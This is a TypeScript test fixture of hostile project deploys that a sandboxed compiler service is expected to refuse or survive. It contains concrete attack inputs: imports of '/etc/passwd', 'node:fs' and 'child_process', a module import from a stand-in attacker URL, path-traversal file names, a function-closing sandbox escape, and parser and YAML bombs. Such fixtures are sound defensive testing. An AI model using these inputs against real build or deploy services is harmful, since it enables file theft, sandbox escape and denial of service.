import type { PackageBundle } from '../../sandbox/types.ts';

/** A deploy that is an attack itself: on the compiler, on the file system behind it, or on who reads the project. */
export interface HostileDeploy {
  readonly name: string;
  /** One sentence for people. */
  readonly tries: string;
  /** Statuses with which the deploy may be answered: 422 when it is refused, 200 when it does no harm. */
  readonly answers: readonly number[];
  /** The file that a refusal has to name. */
  readonly file?: string;
  readonly files: () => Readonly<Record<string, string>>;
  readonly bundle?: () => PackageBundle;
}

export const HOSTILE_SLUG = 'attack-compiler';
const MANIFEST = `name: "Attack: compiler"
slug: ${HOSTILE_SLUG}
tasks: [{ name: t, code: tasks/t.ts, triggers: [{ type: button, name: GO }] }]
`;
const HANDLER = 'export const handle_button = () => 1;\n';

/** The small project with other files on top. */
const withFiles = (files: Readonly<Record<string, string>>) => () => ({
  'project.yaml': MANIFEST,
  'tasks/t.ts': HANDLER,
  ...files,
});
const task = (code: string) => withFiles({ 'tasks/t.ts': `${code}\n${HANDLER}` });
const refused = [422];
const either = [200, 422];

export const HOSTILE_DEPLOYS: readonly HostileDeploy[] = [
  {
    name: 'brackets',
    tries: 'Nests brackets deeper than any parser’s stack.',
    answers: refused,
    file: 'tasks/t.ts',
    files: task(`const deep = ${'['.repeat(200_000)}${']'.repeat(200_000)};`),
  },
  {
    name: 'templates',
    tries: 'Nests templates and functions in each other.',
    answers: either,
    files: task(`const deep = ${'`${(() => '.repeat(5_000)}1${')()}`'.repeat(5_000)};`),
  },
  {
    name: 'types',
    tries: 'Declares types that double with each step.',
    answers: either,
    files: task(
      `type T0 = [1, 1];\n${Array.from({ length: 200 }, (_, at) => `type T${at + 1} = [...T${at}, ...T${at}];`).join('\n')}\nconst value: T200 | null = null;`,
    ),
  },
  {
    name: 'constants',
    tries: 'Writes expressions that become enormous when they are computed in advance.',
    answers: either,
    files: task(
      `enum Text { A0 = 'aaaaaaaaaaaaaaaa', ${Array.from({ length: 40 }, (_, at) => `A${at + 1} = \`\${A${at}}\${A${at}}\``).join(', ')} }`,
    ),
  },
  {
    name: 'names',
    tries: 'Declares ten thousand names.',
    answers: either,
    files: task(Array.from({ length: 10_000 }, (_, at) => `const n${at} = ${at};`).join('\n')),
  },
  {
    name: 'absolute-import',
    tries: 'Imports a file of the server by its path.',
    answers: refused,
    file: 'protected.ts',
    files: withFiles({ 'protected.ts': "import text from '/etc/passwd';\nexport const a = () => text;" }),
  },
  {
    name: 'relative-import',
    tries: 'Imports a file that lies above the project.',
    answers: refused,
    file: 'protected.ts',
    files: withFiles({
      'protected.ts': "import { x } from '../../../package.json';\nexport const a = () => x;",
    }),
  },
  {
    name: 'url-imports',
    tries: 'Imports from URLs, from Node.js, and in ways that are found late.',
    answers: refused,
    file: 'protected.ts',
    files: withFiles({
      'protected.ts':
        "import a from 'file:///etc/passwd';\nimport b from 'data:text/javascript,export default 1';\nimport c from 'https://attack.invalid/x.js';\nimport d from 'node:fs';\nexport { default as e } from 'child_process';\nexport const f = () => [a, b, c, d];",
    }),
  },
  {
    name: 'late-imports',
    tries: 'Imports and requires while it runs.',
    answers: refused,
    file: 'tasks/t.ts',
    files: task(
      "export const late = async () => [await import('node:fs'), require('node:fs'), import.meta.url];",
    ),
  },
  {
    name: 'source-maps',
    tries: 'Names a source map and a tsconfig that lead to files of the server.',
    answers: [200],
    files: task(
      '/// <reference path="/etc/passwd" />\n/** @jsx x */ // @ts-nocheck\n//# sourceMappingURL=/etc/passwd\n//# sourceURL=/etc/passwd',
    ),
  },
  {
    name: 'breaking-out',
    tries: 'Closes the function around it, to run outside of it.',
    answers: refused,
    file: 'tasks/t.ts',
    files: task('}); globalThis.left_behind = 1; (() => {'),
  },
  {
    name: 'odd-endings',
    tries: 'Ends in a comment, a template or a regular expression that swallows what follows.',
    answers: refused,
    file: 'tasks/t.ts',
    files: withFiles({ 'tasks/t.ts': `${HANDLER}const open = \`never closed /* ` }),
  },
  {
    name: 'capability-names',
    tries: 'Declares names that our own code uses around it.',
    answers: [200],
    files: task('const $ = 1, require = 2, module = 3, exports = 4, secrets = 5, globalThis = 6;'),
  },
  {
    name: 'file-names',
    tries: 'Sends files whose names lead out of the project.',
    answers: refused,
    files: withFiles({
      '../../etc/cron.d/x': 'x',
      '/etc/x': 'x',
      'tasks/../../x.ts': 'x',
      'tasks/%2e%2e/x.ts': 'x',
      'tasks\\..\\x.ts': 'x',
      'tasks/con\u0000.ts': 'x',
      'node_modules/x/index.js': 'x',
      constructor: 'x',
    }),
  },
  {
    name: 'yaml-aliases',
    tries: 'Writes project.yaml with aliases that grow without end.',
    answers: refused,
    file: 'project.yaml',
    files: withFiles({
      'project.yaml': `${MANIFEST}a0: &a0 [x, x]\n${Array.from({ length: 60 }, (_, at) => `a${at + 1}: &a${at + 1} [*a${at}, *a${at}]`).join('\n')}\n`,
    }),
  },
  {
    name: 'cron-patterns',
    tries: 'Has the server look for days that never come, for two hundred triggers.',
    answers: refused,
    file: 'project.yaml',
    files: withFiles({
      'project.yaml': MANIFEST.replace(
        '{ type: button, name: GO }',
        Array.from(
          { length: 200 },
          (_, at) =>
            `{ type: cron, name: C${at}, cron: '${at % 60} 59 0 15W * +6L', timezone: America/St_Johns }`,
        ).join(', '),
      ),
    }),
  },
  {
    name: 'yaml-depth',
    tries: 'Nests project.yaml deeper than any parser’s stack, with keys of prototypes.',
    answers: refused,
    file: 'project.yaml',
    files: withFiles({ 'project.yaml': `${MANIFEST}"__proto__": ${'['.repeat(100_000)}\n` }),
  },
  {
    name: 'large-files',
    tries: 'Sends ten files of a megabyte each.',
    answers: refused,
    files: withFiles(
      Object.fromEntries(
        Array.from({ length: 11 }, (_, at) => [
          `tasks/large-${at}.ts`,
          `// ${'x'.repeat(1_000_000)}\n${HANDLER}`,
        ]),
      ),
    ),
  },
  {
    name: 'package-escape',
    tries: 'Sends a package that imports what is not in it and claims to be another.',
    answers: refused,
    files: withFiles({ 'protected.ts': "import { x } from 'package';\nexport const a = () => x;" }),
    bundle: () => ({
      modules: {
        package: "import fs from 'node:fs'; import up from '../../x.js'; export const x = [fs, up];",
        '../evil': 'x',
      },
      lock: [{ name: '../../package', version: '1.0.0', integrity: null }],
    }),
  },
  {
    name: 'endless-start',
    tries: 'Loops at the top level, where the deploy would wait for it if it ran there.',
    answers: [200],
    files: task('for (let at = 0; at >= 0; at += 0);'),
  },
  {
    name: 'half-characters',
    tries: 'Sends text that is no text, and lines that end in every way there is.',
    answers: refused,
    file: 'tasks/t.ts',
    files: task('const half = "\ud800"; // \u2028\u2029\u0000'),
  },
];
